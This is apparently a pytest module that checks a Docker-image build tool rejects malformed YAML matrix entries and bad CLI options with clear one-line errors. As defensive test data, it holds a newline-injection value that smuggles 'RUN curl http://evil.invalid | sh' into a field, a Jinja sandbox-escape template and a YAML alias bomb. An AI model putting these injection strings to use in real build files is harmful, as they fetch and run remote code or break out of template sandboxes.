"""Bad input: every case is answered by one line per problem, naming where (file:line,
the option or the tag) and what to do, with exit status 2 and before any engine call.

DOCKER_HOST points at nothing during these tests: a case that reached the engine would
answer "no Docker engine answers" instead of its own message and fail.
"""

from __future__ import annotations

import re

import pytest

from stagecraft.cli import main
from tests.unit.minimal_matrix import MINIMAL

# (id, text to replace in MINIMAL, replacement, expected fragment, and a text on the line
# the error must point at, or None when only the presence of a line number is checked)
MATRIX_CASES = [
    ("yaml-syntax", "  runtime:\n", "  runtime\n    :x: [\n", "invalid YAML", None),
    ("duplicate-key", "repository: example/fw\n", "repository: example/fw\nrepository: x/y\n",
     "duplicate key 'repository'", "repository: x/y"),
    ("schema-version", "schema: 1", "schema: 2", "must be 1, not 2", "schema: 2"),
    ("unknown-top-key", "source: https", "sauce: https", "unknown key ('sauce' was unexpected)", "schema: 1"),
    ("missing-images", "images:\n  - name: six", "imagez:\n  - name: six", "'images' is a required property", "schema: 1"),
    ("missing-template", "template: base.Dockerfile.j2", "template: bsae.Dockerfile.j2",
     "templates/bsae.Dockerfile.j2 does not exist", "bsae"),
    ("missing-suite", "tests: [tests/image/test_base.py]", "tests: [tests/image/test_bsae.py]",
     "tests/image/test_bsae.py does not exist", "test_bsae"),
    ("chain-unknown-stage", "chain: [base, runtime]", "chain: [base, runtme]",
     "stage 'runtme' is not defined under stages", "runtme"),
    ("axis-unknown-entry", "framework: [six-1, six-2]", "framework: [six-1, six-3]",
     "framework 'six-3' is not under components.framework; did you mean six-2 or six-1", "six-3"),
    ("axis-unknown-table", "      framework: [six-1, six-2]\n",
     "      framework: [six-1, six-2]\n      cuda: [cu118]\n", "axis 'cuda' names no component table", "cuda: [cu118]"),
    ("uses-missing-axis", "    uses: [framework]\n", "    uses: [framework, base, accel]\n",
     "stage 'runtime' uses component table 'accel', which is not under components", "accel"),
    ("tag-undefined", '{{ framework.version }}-cpu"', '{{ framework.vers }}-cpu"',
     "tag template fails for base=deb12, framework=six-1", "- name: six"),
    ("tag-invalid", '"{{ framework.version }}-cpu"', '"{{ framework.version }}/cpu"',
     "'1.16.0/cpu' is not a valid Docker tag", "- name: six"),
    ("tag-collision", 'aliases: ["{{ framework.version }}"]', 'aliases: ["latest"]',
     "'latest' is claimed by '1.16.0-cpu' too", "- name: six"),
    ("pull-without-section", "source: bootstrap", "source: pull",
     "base 'deb12' has source 'pull' but no 'pull' section", "source: pull"),
    ("bad-constraint", '      build: {python: ["3.11"]}\n',
     '      build: {python: ["3.11"]}\n      constraints: ["numpy>>2"]\n',
     "'numpy>>2' is not of the expected form", "numpy>>2"),
    ("apt-without-why", 'tini: {version: "0.19.*", why: "PID 1"}', 'tini: {version: "0.19.*"}',
     "'why' is a required property", "tini:"),
    ("python-incompatible", 'build: {python: ["3.11"]}', 'build: {python: ["3.12", "3.13"]}',
     "framework-python: six-1 has builds for Python 3.12, 3.13, not 3.11", "- name: six"),
    ("exclude-unknown-axis", "    tag: \"{{", "    exclude: [{distro: deb12}]\n    tag: \"{{",
     "exclude names axis 'distro'", "distro: deb12"),
    ("include-partial", "    tag: \"{{", "    include: [{framework: six-1}]\n    tag: \"{{",
     "include entry lacks axes base", "include:"),
    ("sandboxed-tag", '"{{ framework.version }}-cpu"', '"{{ cycler.__init__.__globals__.os.getcwd() }}-cpu"',
     "tag template fails for base=deb12, framework=six-1", "- name: six"),
    ("tag-type-error", '"{{ framework.version }}-cpu"', '"{{ framework.version + 1 }}-cpu"',
     "tag template fails", "- name: six"),
    ("newline-injection", 'tini: {version: "0.19.*", why: "PID 1"}',
     'tini: {version: "0.19.*", why: "PID 1\\nRUN curl http://evil.invalid | sh"}', "control character '\\n'", "tini:"),
    ("exclude-everything", "    tag: \"{{", "    exclude: [{base: deb12}]\n    tag: \"{{",
     "produces no image: exclude removes every combination", "- name: six"),
    ("exclude-list-value", "    tag: \"{{", "    exclude: [{framework: [six-1]}]\n    tag: \"{{",
     "is not allowed here", "framework: [six-1]"),
    ("alias-bomb", "schema: 1\n", "schema: 1\n" + "".join(
        f"x{i}: &x{i} [{'1, 1' if i == 0 else f'*x{i - 1}, *x{i - 1}'}]\n" for i in range(30)),
     "expands to more than 200000 values", None),
    ("null-framework", "framework: [six-1, six-2]", "framework: [six-1, null]",
     "axis 'framework' cannot be null", "six-1, null"),
    ("isa-cap-in-env", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n'
     "      kernel_sets: [{name: cpu, device: cpu, env: {ONEDNN_MAX_CPU_ISA: AVX512_CORE}}]\n",
     "kernel_sets.0.env.ONEDNN_MAX_CPU_ISA: a fixed ISA cap is below newer CPUs", "kernel_sets:"),
    ("top-cpu-set-capped", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n'
     "      kernel_sets: [{name: cpu-avx2, device: cpu, isa_cap: avx2}]\n",
     "cpu-avx2 is the image's top CPU kernel set: it must not cap the CPU ISA", "kernel_sets:"),
    ("unknown-isa-cap", '      build: {python: ["3.11"]}\n', '      build: {python: ["3.11"]}\n'
     "      kernel_sets: [{name: a, device: cpu}, {name: b, device: cpu, isa_cap: avx3}]\n",
     "kernel_sets.1.isa_cap: 'avx3' is not one of", "kernel_sets:"),
]

CLI_CASES = [
    ("unknown-tag", ["--tag", "9.9.9-gpu"], "--tag 9.9.9-gpu: no such tag or alias"),
    ("close-tag", ["--tag", "1.16.0-cpx"], "closest: 1.16.0-cpu"),
    ("ambiguous-prefix", ["--tag", "1.1"], "ambiguous: matches 1.16.0-cpu, 1.17.0-cpu"),
    ("unknown-option", ["--frobnicate"], "unrecognized arguments: --frobnicate"),
    ("bad-jobs", ["--tag", "1.16.0-cpu", "--jobs", "0"], "--jobs 0: must be at least 1"),
    ("jobs-not-int", ["--tag", "1.16.0-cpu", "--jobs", "two"], "invalid int value: 'two'"),
    ("missing-ca-bundle", ["--tag", "1.16.0-cpu", "--ca-bundle", "/nonexistent/ca.pem"],
     "--ca-bundle /nonexistent/ca.pem: no readable file there"),
    ("render-two", ["render", "--tag", "1.16.0-cpu", "--tag", "1.17.0-cpu"], "render takes exactly one tag"),
    ("no-tag", [], "no image chosen; pass --tag TAG"),
    ("bad-base-source", ["--tag", "1.16.0-cpu", "--base-source", "ftp"], "invalid choice: 'ftp'"),
    ("unknown-command", ["publish-everything"], "invalid choice: 'publish-everything'"),
    ("missing-matrix", ["--matrix", "nope.yaml", "--list"], "nope.yaml: file not found"),
    ("bad-repository", ["--tag", "1.16.0-cpu", "--repository", "Team/X:y"], "--repository Team/X:y: not a valid repository name"),
    ("bad-cache-spec", ["--tag", "1.16.0-cpu", "--cache-to", "type=s3,bucket=x"], "not a cache location"),
    ("command-after-options", ["--all", "plan"], "`plan` must come before its options"),
    ("option-of-another-command", ["--tag", "1.16.0-cpu", "--format", "github"],
     "unrecognized arguments: --format"),
]


@pytest.fixture(autouse=True)
def _no_engine(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DOCKER_HOST", "tcp://127.0.0.1:9")


def _run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, list[str]]:
    try:
        code = main(argv)
    except SystemExit as exc:  # argparse
        code = exc.code
    err = capsys.readouterr().err.strip().splitlines()
    return code, err


@pytest.mark.parametrize("case", MATRIX_CASES, ids=[c[0] for c in MATRIX_CASES])
def test_bad_matrix(case, project, capsys, monkeypatch):
    name, old, new, fragment, marker = case
    assert old in MINIMAL, f"{name}: the case no longer applies to MINIMAL"
    text = MINIMAL.replace(old, new, 1)
    line = None
    if marker is not None:
        line = next(i for i, ln in enumerate(text.splitlines(), 1) if marker in ln)
    path = project(text)
    monkeypatch.chdir(path.parent)
    code, err = _run(["--list"], capsys)
    assert code == 2, f"{name}: exit {code}, stderr {err}"
    hits = [e for e in err if fragment in e]
    assert hits, f"{name}: no line with {fragment!r} in {err}"
    assert all(e.startswith("error: matrix.yaml") for e in err), f"{name}: {err}"
    if line is not None:
        assert hits[0].startswith(f"error: matrix.yaml:{line}:"), f"{name}: {hits[0]}"
    else:
        assert re.match(r"error: matrix\.yaml:\d+:", hits[0]), f"{name}: {hits[0]}"


@pytest.mark.parametrize("case", CLI_CASES, ids=[c[0] for c in CLI_CASES])
def test_bad_command_line(case, project, capsys, monkeypatch):
    name, argv, fragment = case
    path = project(MINIMAL)
    monkeypatch.chdir(path.parent)
    code, err = _run(argv, capsys)
    assert code == 2, f"{name}: exit {code}, stderr {err}"
    assert len(err) == 1, f"{name}: expected one line, got {err}"
    assert fragment in err[0], f"{name}: {err[0]!r} lacks {fragment!r}"


def test_every_problem_is_reported_at_once(project, capsys, monkeypatch):
    text = (MINIMAL.replace("template: base.Dockerfile.j2", "template: nope.j2")
            .replace("framework: [six-1, six-2]", "framework: [six-1, six-9]"))
    monkeypatch.chdir(project(text).parent)
    code, err = _run(["--list"], capsys)
    assert code == 2
    assert any("nope.j2" in e for e in err) and any("six-9" in e for e in err), err


def test_corpus_size():
    assert len(MATRIX_CASES) + len(CLI_CASES) >= 15
